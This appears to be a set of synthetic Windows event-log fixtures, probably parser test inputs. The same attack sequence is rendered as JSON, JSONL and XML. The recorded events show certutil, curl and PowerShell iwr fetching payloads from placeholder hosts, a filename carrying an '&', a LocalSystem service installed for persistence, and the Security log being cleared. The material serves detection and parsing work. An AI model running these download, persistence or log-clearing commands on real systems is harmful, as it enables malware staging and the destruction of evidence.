          "ProcessID": 3308,
          "ThreadID": 4008
        }
      },
      "Channel": "Microsoft-Windows-PowerShell/Operational",
      "Computer": "ws5.corp.example",
      "Security": {
        "#attributes": {
          "UserID": "S-1-5-21-1004336348-1177238915-682003330-1107"
        }
      }
    },
    "EventData": {
      "MessageNumber": 1,
      "MessageTotal": 1,
      "ScriptBlockText": "if (1 -lt 2) { iwr 'https://paste.example/r/8' -OutFile $env:TEMP\\a.dll }\n# \"done\"",
      "ScriptBlockId": "0d7f3a1e-55b1-4f0e-9a55-0c1f6c3b8a11",
      "Path": "C:\\Users\\amara\\stage.ps1"
    }
  }
}
{
  "Event": {
    "#attributes": {
      "xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"
    },
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Service Control Manager",
          "Guid": "555908D1-A6D7-4695-8E1E-26931D2012F4"
        }
      },
      "EventID": {
        "#attributes": {
          "Qualifiers": 16384
        },
        "#text": 7045
      },
      "Version": 0,
      "Level": 4,
      "Task": 0,
      "Opcode": 0,
      "Keywords": "0x8080000000000000",
      "TimeCreated": {
        "#attributes": {
          "SystemTime": "2026-11-24T08:00:08.000000Z"
        }
      },
      "EventRecordID": 74181,
      "Correlation": null,
      "Execution": {
        "#attributes": {
          "ProcessID": 3308,
          "ThreadID": 4008
        }
      },
      "Channel": "System",
      "Computer": "ws5.corp.example",
      "Security": {
        "#attributes": {
          "UserID": "S-1-5-21-1004336348-1177238915-682003330-1107"
        }
      }
    },
    "EventData": {
      "ServiceName": "Updater",
      "ImagePath": "\"C:\\Users\\Public\\update & go.exe\" /svc",
      "ServiceType": "user mode service",
      "StartType": "auto start",
      "AccountName": "LocalSystem"
    }
  }
}
{
  "Event": {
    "#attributes": {
      "xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"
    },
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-Eventlog",
          "Guid": "FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148"
        }
      },
      "EventID": 1102,
      "Version": 0,
      "Level": 4,
      "Task": 104,
      "Opcode": 0,
      "Keywords": "0x4020000000000000",
      "TimeCreated": {
        "#attributes": {
          "SystemTime": "2026-11-24T08:00:09.000000Z"
        }
      },
      "EventRecordID": 74182,
      "Correlation": null,
      "Execution": {
        "#attributes": {
          "ProcessID": 3308,
          "ThreadID": 4008
        }
      },
      "Channel": "Security",
      "Computer": "ws5.corp.example",
      "Security": null
    },
    "UserData": {
      "LogFileCleared": {
        "#attributes": {
          "xmlns": "http://manifests.microsoft.com/win/2004/08/windows/eventlog"
        },
        "SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-1107",
        "SubjectUserName": "amara",
        "SubjectDomainName": "CORP",
        "SubjectLogonId": "0x3e7a1"
      }
    }
  }
}
--- input shape/evtx-dump-separate=evtx-dump-separate-events.jsonl
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider_attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"},"EventID":1,"Version":5,"Level":4,"Task":1,"Opcode":0,"Keywords":"0x8000000000000000","TimeCreated_attributes":{"SystemTime":"2026-11-24T08:00:01.000000Z"},"EventRecordID":74174,"Correlation":null,"Execution_attributes":{"ProcessID":3308,"ThreadID":4008},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws5.corp.example","Security_attributes":{"UserID":"S-1-5-18"}},"EventData":{"RuleName":"-","UtcTime":"2026-11-24 08:00:01.000","ProcessGuid":"5AA13A44-0C90-68FC-0001-000000004002","ProcessId":5320,"Image":"C:\\Windows\\System32\\certutil.exe","OriginalFileName":"CertUtil.exe","CommandLine":"certutil.exe -urlcache -split -f http://files.cdn-stage.example/up/update.exe \"C:\\Users\\Public\\update & go.exe\"","CurrentDirectory":"C:\\Users\\amara\\","User":"CORP\\amara","LogonGuid":"5AA13A44-0C90-68FC-0002-000000004002","LogonId":"0x3e7a1","TerminalSessionId":1,"IntegrityLevel":"Medium","Hashes":"MD5=5D41402ABC4B2A76B9719D911017C592,SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744","ParentProcessGuid":"5AA13A44-0C90-68FC-0003-000000004002","ParentProcessId":4100,"ParentImage":"C:\\Windows\\System32\\cmd.exe","ParentCommandLine":"\"C:\\Windows\\system32\\cmd.exe\" /c stage.bat","ParentUser":"CORP\\amara"}}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider_attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"},"EventID":22,"Version":5,"Level":4,"Task":22,"Opcode":0,"Keywords":"0x8000000000000000","TimeCreated_attributes":{"SystemTime":"2026-11-24T08:00:02.000000Z"},"EventRecordID":74175,"Correlation":null,"Execution_attributes":{"ProcessID":3308,"ThreadID":4008},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws5.corp.example","Security_attributes":{"UserID":"S-1-5-18"}},"EventData":{"RuleName":"-","UtcTime":"2026-11-24 08:00:02.000","ProcessGuid":"5AA13A44-0C90-68FC-0001-000000004002","ProcessId":5320,"QueryName":"files.cdn-stage.example","QueryStatus":"0","QueryResults":"::ffff:203.0.113.20;","Image":"C:\\Windows\\System32\\certutil.exe","User":"CORP\\amara"}}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider_attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"},"EventID":3,"Version":5,"Level":4,"Task":3,"Opcode":0,"Keywords":"0x8000000000000000","TimeCreated_attributes":{"SystemTime":"2026-11-24T08:00:03.000000Z"},"EventRecordID":74176,"Correlation":null,"Execution_attributes":{"ProcessID":3308,"ThreadID":4008},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws5.corp.example","Security_attributes":{"UserID":"S-1-5-18"}},"EventData":{"RuleName":"-","UtcTime":"2026-11-24 08:00:03.000","ProcessGuid":"5AA13A44-0C90-68FC-0001-000000004002","ProcessId":5320,"Image":"C:\\Windows\\System32\\certutil.exe","User":"CORP\\amara","Protocol":"tcp","Initiated":true,"SourceIsIpv6":false,"SourceIp":"192.0.2.5","SourceHostname":"ws5.corp.example","SourcePort":50123,"DestinationIsIpv6":false,"DestinationIp":"203.0.113.20","DestinationHostname":"files.cdn-stage.example","DestinationPort":80}}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider_attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"},"EventID":11,"Version":5,"Level":4,"Task":11,"Opcode":0,"Keywords":"0x8000000000000000","TimeCreated_attributes":{"SystemTime":"2026-11-24T08:00:04.000000Z"},"EventRecordID":74177,"Correlation":null,"Execution_attributes":{"ProcessID":3308,"ThreadID":4008},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws5.corp.example","Security_attributes":{"UserID":"S-1-5-18"}},"EventData":{"RuleName":"-","UtcTime":"2026-11-24 08:00:04.000","ProcessGuid":"5AA13A44-0C90-68FC-0001-000000004002","ProcessId":5320,"Image":"C:\\Windows\\System32\\certutil.exe","TargetFilename":"C:\\Users\\Public\\update & go.exe","CreationUtcTime":"2026-11-24 08:00:04.000","User":"CORP\\amara"}}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider_attributes":{"Name":"Microsoft-Windows-Security-Auditing","Guid":"54849625-5478-4994-A5BA-3E3B0328C30D"},"EventID":4688,"Version":2,"Level":4,"Task":13312,"Opcode":0,"Keywords":"0x8020000000000000","TimeCreated_attributes":{"SystemTime":"2026-11-24T08:00:05.000000Z"},"EventRecordID":74178,"Correlation":null,"Execution_attributes":{"ProcessID":3308,"ThreadID":4008},"Channel":"Security","Computer":"ws5.corp.example","Security":null},"EventData":{"SubjectUserSid":"S-1-5-21-1004336348-1177238915-682003330-1107","SubjectUserName":"amara","SubjectDomainName":"CORP","SubjectLogonId":"0x3e7a1","NewProcessId":"0x1a2c","NewProcessName":"C:\\Windows\\System32\\curl.exe","TokenElevationType":"%%1938","ProcessId":"0x1004","CommandLine":"curl.exe -o C:\\Users\\Public\\größe.bin https://paste.example/r/7","TargetUserSid":"S-1-0-0","TargetUserName":"-","TargetDomainName":"-","TargetLogonId":"0x0","ParentProcessName":"C:\\Windows\\System32\\cmd.exe","MandatoryLabel":"S-1-16-8192"}}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider_attributes":{"Name":"Microsoft-Windows-Security-Auditing","Guid":"54849625-5478-4994-A5BA-3E3B0328C30D"},"EventID":4624,"Version":2,"Level":4,"Task":12544,"Opcode":0,"Keywords":"0x8020000000000000","TimeCreated_attributes":{"SystemTime":"2026-11-24T08:00:06.000000Z"},"EventRecordID":74179,"Correlation":null,"Execution_attributes":{"ProcessID":3308,"ThreadID":4008},"Channel":"Security","Computer":"ws5.corp.example","Security":null},"EventData":{"SubjectUserSid":"S-1-0-0","SubjectUserName":"-","SubjectDomainName":"-","SubjectLogonId":"0x0","TargetUserSid":"S-1-5-21-1004336348-1177238915-682003330-1107","TargetUserName":"amara","TargetDomainName":"CORP","TargetLogonId":"0x51f02","LogonType":3,"LogonProcessName":"NtLmSsp ","AuthenticationPackageName":"NTLM","WorkstationName":"WS9","LogonGuid":"00000000-0000-0000-0000-000000000000","TransmittedServices":"-","LmPackageName":"NTLM V2","KeyLength":128,"ProcessId":"0x0","ProcessName":"-","IpAddress":"192.0.2.9","IpPort":"49771","ImpersonationLevel":"%%1833"}}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider_attributes":{"Name":"Microsoft-Windows-PowerShell","Guid":"A0C1853B-5C40-4B15-8766-3CF1C58F985A"},"EventID":4104,"Version":1,"Level":4,"Task":2,"Opcode":0,"Keywords":"0x0","TimeCreated_attributes":{"SystemTime":"2026-11-24T08:00:07.000000Z"},"EventRecordID":74180,"Correlation":null,"Execution_attributes":{"ProcessID":3308,"ThreadID":4008},"Channel":"Microsoft-Windows-PowerShell/Operational","Computer":"ws5.corp.example","Security_attributes":{"UserID":"S-1-5-21-1004336348-1177238915-682003330-1107"}},"EventData":{"MessageNumber":1,"MessageTotal":1,"ScriptBlockText":"if (1 -lt 2) { iwr 'https://paste.example/r/8' -OutFile $env:TEMP\\a.dll }\n# \"done\"","ScriptBlockId":"0d7f3a1e-55b1-4f0e-9a55-0c1f6c3b8a11","Path":"C:\\Users\\amara\\stage.ps1"}}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider_attributes":{"Name":"Service Control Manager","Guid":"555908D1-A6D7-4695-8E1E-26931D2012F4"},"EventID_attributes":{"Qualifiers":16384},"EventID":7045,"Version":0,"Level":4,"Task":0,"Opcode":0,"Keywords":"0x8080000000000000","TimeCreated_attributes":{"SystemTime":"2026-11-24T08:00:08.000000Z"},"EventRecordID":74181,"Correlation":null,"Execution_attributes":{"ProcessID":3308,"ThreadID":4008},"Channel":"System","Computer":"ws5.corp.example","Security_attributes":{"UserID":"S-1-5-21-1004336348-1177238915-682003330-1107"}},"EventData":{"ServiceName":"Updater","ImagePath":"\"C:\\Users\\Public\\update & go.exe\" /svc","ServiceType":"user mode service","StartType":"auto start","AccountName":"LocalSystem"}}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider_attributes":{"Name":"Microsoft-Windows-Eventlog","Guid":"FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148"},"EventID":1102,"Version":0,"Level":4,"Task":104,"Opcode":0,"Keywords":"0x4020000000000000","TimeCreated_attributes":{"SystemTime":"2026-11-24T08:00:09.000000Z"},"EventRecordID":74182,"Correlation":null,"Execution_attributes":{"ProcessID":3308,"ThreadID":4008},"Channel":"Security","Computer":"ws5.corp.example","Security":null},"UserData":{"LogFileCleared":{"#attributes":{"xmlns":"http://manifests.microsoft.com/win/2004/08/windows/eventlog"},"SubjectUserSid":"S-1-5-21-1004336348-1177238915-682003330-1107","SubjectUserName":"amara","SubjectDomainName":"CORP","SubjectLogonId":"0x3e7a1"}}}}
--- input shape/xml-lines=xml-lines-events.xml
<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-11-24T08:00:01.0000000Z"/><EventRecordID>74174</EventRecordID><Correlation/><Execution ProcessID="3308" ThreadID="4008"/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>ws5.corp.example</Computer><Security UserID="S-1-5-18"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2026-11-24 08:00:01.000</Data><Data Name="ProcessGuid">{5AA13A44-0C90-68FC-0001-000000004002}</Data><Data Name="ProcessId">5320</Data><Data Name="Image">C:\Windows\System32\certutil.exe</Data><Data Name="OriginalFileName">CertUtil.exe</Data><Data Name="CommandLine">certutil.exe -urlcache -split -f http://files.cdn-stage.example/up/update.exe "C:\Users\Public\update &amp; go.exe"</Data><Data Name="CurrentDirectory">C:\Users\amara\</Data><Data Name="User">CORP\amara</Data><Data Name="LogonGuid">{5AA13A44-0C90-68FC-0002-000000004002}</Data><Data Name="LogonId">0x3e7a1</Data><Data Name="TerminalSessionId">1</Data><Data Name="IntegrityLevel">Medium</Data><Data Name="Hashes">MD5=5D41402ABC4B2A76B9719D911017C592,SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744</Data><Data Name="ParentProcessGuid">{5AA13A44-0C90-68FC-0003-000000004002}</Data><Data Name="ParentProcessId">4100</Data><Data Name="ParentImage">C:\Windows\System32\cmd.exe</Data><Data Name="ParentCommandLine">"C:\Windows\system32\cmd.exe" /c stage.bat</Data><Data Name="ParentUser">CORP\amara</Data></EventData></Event>
<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"/><EventID>22</EventID><Version>5</Version><Level>4</Level><Task>22</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-11-24T08:00:02.0000000Z"/><EventRecordID>74175</EventRecordID><Correlation/><Execution ProcessID="3308" ThreadID="4008"/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>ws5.corp.example</Computer><Security UserID="S-1-5-18"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2026-11-24 08:00:02.000</Data><Data Name="ProcessGuid">{5AA13A44-0C90-68FC-0001-000000004002}</Data><Data Name="ProcessId">5320</Data><Data Name="QueryName">files.cdn-stage.example</Data><Data Name="QueryStatus">0</Data><Data Name="QueryResults">::ffff:203.0.113.20;</Data><Data Name="Image">C:\Windows\System32\certutil.exe</Data><Data Name="User">CORP\amara</Data></EventData></Event>
<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"/><EventID>3</EventID><Version>5</Version><Level>4</Level><Task>3</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-11-24T08:00:03.0000000Z"/><EventRecordID>74176</EventRecordID><Correlation/><Execution ProcessID="3308" ThreadID="4008"/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>ws5.corp.example</Computer><Security UserID="S-1-5-18"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2026-11-24 08:00:03.000</Data><Data Name="ProcessGuid">{5AA13A44-0C90-68FC-0001-000000004002}</Data><Data Name="ProcessId">5320</Data><Data Name="Image">C:\Windows\System32\certutil.exe</Data><Data Name="User">CORP\amara</Data><Data Name="Protocol">tcp</Data><Data Name="Initiated">true</Data><Data Name="SourceIsIpv6">false</Data><Data Name="SourceIp">192.0.2.5</Data><Data Name="SourceHostname">ws5.corp.example</Data><Data Name="SourcePort">50123</Data><Data Name="DestinationIsIpv6">false</Data><Data Name="DestinationIp">203.0.113.20</Data><Data Name="DestinationHostname">files.cdn-stage.example</Data><Data Name="DestinationPort">80</Data></EventData></Event>
<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"/><EventID>11</EventID><Version>5</Version><Level>4</Level><Task>11</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-11-24T08:00:04.0000000Z"/><EventRecordID>74177</EventRecordID><Correlation/><Execution ProcessID="3308" ThreadID="4008"/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>ws5.corp.example</Computer><Security UserID="S-1-5-18"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2026-11-24 08:00:04.000</Data><Data Name="ProcessGuid">{5AA13A44-0C90-68FC-0001-000000004002}</Data><Data Name="ProcessId">5320</Data><Data Name="Image">C:\Windows\System32\certutil.exe</Data><Data Name="TargetFilename">C:\Users\Public\update &amp; go.exe</Data><Data Name="CreationUtcTime">2026-11-24 08:00:04.000</Data><Data Name="User">CORP\amara</Data></EventData></Event>
<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Security-Auditing" Guid="{54849625-5478-4994-a5ba-3e3b0328c30d}"/><EventID>4688</EventID><Version>2</Version><Level>4</Level><Task>13312</Task><Opcode>0</Opcode><Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime="2026-11-24T08:00:05.0000000Z"/><EventRecordID>74178</EventRecordID><Correlation/><Execution ProcessID="3308" ThreadID="4008"/><Channel>Security</Channel><Computer>ws5.corp.example</Computer><Security/></System><EventData><Data Name="SubjectUserSid">S-1-5-21-1004336348-1177238915-682003330-1107</Data><Data Name="SubjectUserName">amara</Data><Data Name="SubjectDomainName">CORP</Data><Data Name="SubjectLogonId">0x3e7a1</Data><Data Name="NewProcessId">0x1a2c</Data><Data Name="NewProcessName">C:\Windows\System32\curl.exe</Data><Data Name="TokenElevationType">%%1938</Data><Data Name="ProcessId">0x1004</Data><Data Name="CommandLine">curl.exe -o C:\Users\Public\größe.bin https://paste.example/r/7</Data><Data Name="TargetUserSid">S-1-0-0</Data><Data Name="TargetUserName">-</Data><Data Name="TargetDomainName">-</Data><Data Name="TargetLogonId">0x0</Data><Data Name="ParentProcessName">C:\Windows\System32\cmd.exe</Data><Data Name="MandatoryLabel">S-1-16-8192</Data></EventData></Event>
<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Security-Auditing" Guid="{54849625-5478-4994-a5ba-3e3b0328c30d}"/><EventID>4624</EventID><Version>2</Version><Level>4</Level><Task>12544</Task><Opcode>0</Opcode><Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime="2026-11-24T08:00:06.0000000Z"/><EventRecordID>74179</EventRecordID><Correlation/><Execution ProcessID="3308" ThreadID="4008"/><Channel>Security</Channel><Computer>ws5.corp.example</Computer><Security/></System><EventData><Data Name="SubjectUserSid">S-1-0-0</Data><Data Name="SubjectUserName">-</Data><Data Name="SubjectDomainName">-</Data><Data Name="SubjectLogonId">0x0</Data><Data Name="TargetUserSid">S-1-5-21-1004336348-1177238915-682003330-1107</Data><Data Name="TargetUserName">amara</Data><Data Name="TargetDomainName">CORP</Data><Data Name="TargetLogonId">0x51f02</Data><Data Name="LogonType">3</Data><Data Name="LogonProcessName">NtLmSsp </Data><Data Name="AuthenticationPackageName">NTLM</Data><Data Name="WorkstationName">WS9</Data><Data Name="LogonGuid">{00000000-0000-0000-0000-000000000000}</Data><Data Name="TransmittedServices">-</Data><Data Name="LmPackageName">NTLM V2</Data><Data Name="KeyLength">128</Data><Data Name="ProcessId">0x0</Data><Data Name="ProcessName">-</Data><Data Name="IpAddress">192.0.2.9</Data><Data Name="IpPort">49771</Data><Data Name="ImpersonationLevel">%%1833</Data></EventData></Event>
<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-PowerShell" Guid="{a0c1853b-5c40-4b15-8766-3cf1c58f985a}"/><EventID>4104</EventID><Version>1</Version><Level>4</Level><Task>2</Task><Opcode>0</Opcode><Keywords>0x0</Keywords><TimeCreated SystemTime="2026-11-24T08:00:07.0000000Z"/><EventRecordID>74180</EventRecordID><Correlation/><Execution ProcessID="3308" ThreadID="4008"/><Channel>Microsoft-Windows-PowerShell/Operational</Channel><Computer>ws5.corp.example</Computer><Security UserID="S-1-5-21-1004336348-1177238915-682003330-1107"/></System><EventData><Data Name="MessageNumber">1</Data><Data Name="MessageTotal">1</Data><Data Name="ScriptBlockText">if (1 -lt 2) { iwr 'https://paste.example/r/8' -OutFile $env:TEMP\a.dll }&#xA;# "done"</Data><Data Name="ScriptBlockId">0d7f3a1e-55b1-4f0e-9a55-0c1f6c3b8a11</Data><Data Name="Path">C:\Users\amara\stage.ps1</Data></EventData></Event>
<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Service Control Manager" Guid="{555908d1-a6d7-4695-8e1e-26931d2012f4}"/><EventID Qualifiers="16384">7045</EventID><Version>0</Version><Level>4</Level><Task>0</Task><Opcode>0</Opcode><Keywords>0x8080000000000000</Keywords><TimeCreated SystemTime="2026-11-24T08:00:08.0000000Z"/><EventRecordID>74181</EventRecordID><Correlation/><Execution ProcessID="3308" ThreadID="4008"/><Channel>System</Channel><Computer>ws5.corp.example</Computer><Security UserID="S-1-5-21-1004336348-1177238915-682003330-1107"/></System><EventData><Data Name="ServiceName">Updater</Data><Data Name="ImagePath">"C:\Users\Public\update &amp; go.exe" /svc</Data><Data Name="ServiceType">user mode service</Data><Data Name="StartType">auto start</Data><Data Name="AccountName">LocalSystem</Data></EventData></Event>
<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Eventlog" Guid="{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}"/><EventID>1102</EventID><Version>0</Version><Level>4</Level><Task>104</Task><Opcode>0</Opcode><Keywords>0x4020000000000000</Keywords><TimeCreated SystemTime="2026-11-24T08:00:09.0000000Z"/><EventRecordID>74182</EventRecordID><Correlation/><Execution ProcessID="3308" ThreadID="4008"/><Channel>Security</Channel><Computer>ws5.corp.example</Computer><Security/></System><UserData><LogFileCleared xmlns="http://manifests.microsoft.com/win/2004/08/windows/eventlog"><SubjectUserSid>S-1-5-21-1004336348-1177238915-682003330-1107</SubjectUserSid><SubjectUserName>amara</SubjectUserName><SubjectDomainName>CORP</SubjectDomainName><SubjectLogonId>0x3e7a1</SubjectLogonId></LogFileCleared></UserData></Event>
--- input shape/xml-wrapped=xml-wrapped-events.xml
<?xml version="1.0" encoding="utf-8" standalone="yes"?>
<Events>
  <Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>
    <System>
      <Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"/>
      <EventID>1</EventID>
      <Version>5</Version>
      <Level>4</Level>
      <Task>1</Task>
      <Opcode>0</Opcode>
      <Keywords>0x8000000000000000</Keywords>
      <TimeCreated SystemTime="2026-11-24T08:00:01.0000000Z"/>
      <EventRecordID>74174</EventRecordID>
      <Correlation/>
      <Execution ProcessID="3308" ThreadID="4008"/>
      <Channel>Microsoft-Windows-Sysmon/Operational</Channel>
      <Computer>ws5.corp.example</Computer>
      <Security UserID="S-1-5-18"/>
    </System>
    <EventData>
      <Data Name="RuleName">-</Data>
      <Data Name="UtcTime">2026-11-24 08:00:01.000</Data>
      <Data Name="ProcessGuid">{5AA13A44-0C90-68FC-0001-000000004002}</Data>
      <Data Name="ProcessId">5320</Data>
      <Data Name="Image">C:\Windows\System32\certutil.exe</Data>
      <Data Name="OriginalFileName">CertUtil.exe</Data>
      <Data Name="CommandLine">certutil.exe -urlcache -split -f http://files.cdn-stage.example/up/update.exe "C:\Users\Public\update &amp; go.exe"</Data>
      <Data Name="CurrentDirectory">C:\Users\amara\</Data>
      <Data Name="User">CORP\amara</Data>
      <Data Name="LogonGuid">{5AA13A44-0C90-68FC-0002-000000004002}</Data>
      <Data Name="LogonId">0x3e7a1</Data>
      <Data Name="TerminalSessionId">1</Data>
      <Data Name="IntegrityLevel">Medium</Data>
      <Data Name="Hashes">MD5=5D41402ABC4B2A76B9719D911017C592,SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744</Data>
      <Data Name="ParentProcessGuid">{5AA13A44-0C90-68FC-0003-000000004002}</Data>
      <Data Name="ParentProcessId">4100</Data>
      <Data Name="ParentImage">C:\Windows\System32\cmd.exe</Data>
      <Data Name="ParentCommandLine">"C:\Windows\system32\cmd.exe" /c stage.bat</Data>
      <Data Name="ParentUser">CORP\amara</Data>
    </EventData>
  </Event>
  <Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>
    <System>
      <Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"/>
      <EventID>22</EventID>
      <Version>5</Version>
      <Level>4</Level>
      <Task>22</Task>
      <Opcode>0</Opcode>
      <Keywords>0x8000000000000000</Keywords>
      <TimeCreated SystemTime="2026-11-24T08:00:02.0000000Z"/>
      <EventRecordID>74175</EventRecordID>
      <Correlation/>
      <Execution ProcessID="3308" ThreadID="4008"/>
      <Channel>Microsoft-Windows-Sysmon/Operational</Channel>
      <Computer>ws5.corp.example</Computer>
      <Security UserID="S-1-5-18"/>
    </System>
    <EventData>
      <Data Name="RuleName">-</Data>
      <Data Name="UtcTime">2026-11-24 08:00:02.000</Data>
      <Data Name="ProcessGuid">{5AA13A44-0C90-68FC-0001-000000004002}</Data>
      <Data Name="ProcessId">5320</Data>
      <Data Name="QueryName">files.cdn-stage.example</Data>
      <Data Name="QueryStatus">0</Data>
      <Data Name="QueryResults">::ffff:203.0.113.20;</Data>
      <Data Name="Image">C:\Windows\System32\certutil.exe</Data>
      <Data Name="User">CORP\amara</Data>
    </EventData>
  </Event>
  <Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>
    <System>
      <Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"/>
      <EventID>3</EventID>
      <Version>5</Version>
      <Level>4</Level>
      <Task>3</Task>
      <Opcode>0</Opcode>
      <Keywords>0x8000000000000000</Keywords>
      <TimeCreated SystemTime="2026-11-24T08:00:03.0000000Z"/>
      <EventRecordID>74176</EventRecordID>
      <Correlation/>
      <Execution ProcessID="3308" ThreadID="4008"/>
      <Channel>Microsoft-Windows-Sysmon/Operational</Channel>
      <Computer>ws5.corp.example</Computer>
      <Security UserID="S-1-5-18"/>
    </System>
    <EventData>
      <Data Name="RuleName">-</Data>
      <Data Name="UtcTime">2026-11-24 08:00:03.000</Data>
      <Data Name="ProcessGuid">{5AA13A44-0C90-68FC-0001-000000004002}</Data>
      <Data Name="ProcessId">5320</Data>
      <Data Name="Image">C:\Windows\System32\certutil.exe</Data>
      <Data Name="User">CORP\amara</Data>
      <Data Name="Protocol">tcp</Data>
      <Data Name="Initiated">true</Data>
      <Data Name="SourceIsIpv6">false</Data>
      <Data Name="SourceIp">192.0.2.5</Data>
      <Data Name="SourceHostname">ws5.corp.example</Data>
      <Data Name="SourcePort">50123</Data>
      <Data Name="DestinationIsIpv6">false</Data>
      <Data Name="DestinationIp">203.0.113.20</Data>
      <Data Name="DestinationHostname">files.cdn-stage.example</Data>
      <Data Name="DestinationPort">80</Data>
    </EventData>
  </Event>
  <Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>
    <System>
      <Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"/>
      <EventID>11</EventID>
      <Version>5</Version>
      <Level>4</Level>
      <Task>11</Task>
      <Opcode>0</Opcode>
      <Keywords>0x8000000000000000</Keywords>
      <TimeCreated SystemTime="2026-11-24T08:00:04.0000000Z"/>
      <EventRecordID>74177</EventRecordID>
      <Correlation/>
      <Execution ProcessID="3308" ThreadID="4008"/>
      <Channel>Microsoft-Windows-Sysmon/Operational</Channel>
      <Computer>ws5.corp.example</Computer>
      <Security UserID="S-1-5-18"/>
    </System>
    <EventData>
      <Data Name="RuleName">-</Data>
      <Data Name="UtcTime">2026-11-24 08:00:04.000</Data>
      <Data Name="ProcessGuid">{5AA13A44-0C90-68FC-0001-000000004002}</Data>
      <Data Name="ProcessId">5320</Data>
      <Data Name="Image">C:\Windows\System32\certutil.exe</Data>
      <Data Name="TargetFilename">C:\Users\Public\update &amp; go.exe</Data>
      <Data Name="CreationUtcTime">2026-11-24 08:00:04.000</Data>
      <Data Name="User">CORP\amara</Data>
    </EventData>
  </Event>
  <Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>
    <System>
